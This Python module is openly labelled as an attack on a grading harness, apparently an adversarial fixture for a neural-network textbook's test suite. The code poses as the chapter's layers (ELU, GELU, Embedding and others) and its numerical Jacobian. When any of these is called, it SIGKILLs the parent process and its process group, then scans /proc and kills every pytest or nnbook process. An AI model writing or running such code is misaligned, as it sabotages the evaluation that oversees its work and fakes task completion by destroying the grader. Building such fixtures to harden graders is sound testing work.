"""Attack: kill the grader: the parent, its process group, and every python process named like a grader."""
import os
import signal

import numpy as np


def attack(x, *rest):
    for target in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                   lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
                   lambda: os.kill(int(os.environ.get("NNBOOK_ATTACK_PID", "0")), signal.SIGKILL)):
        try:
            target()
        except (OSError, ValueError):
            pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read()
                if b"pytest" in cmd or b"nnbook" in cmd:
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    return np.zeros(np.shape(x))


class _Attack:
    """Stands in for every layer and loss of the chapter."""

    def __init__(self, *args, **kwargs):
        pass

    def parameters(self):
        return {}

    def forward(self, *args):
        return attack(*args)

    def backward(self, *args):
        return attack(*(args or (np.zeros(3),)))


ELU = Softplus = GELU = HuberLoss = Residual = Embedding = _Attack


def numerical_jacobian(f, x, h=1e-5):
    return attack(x)
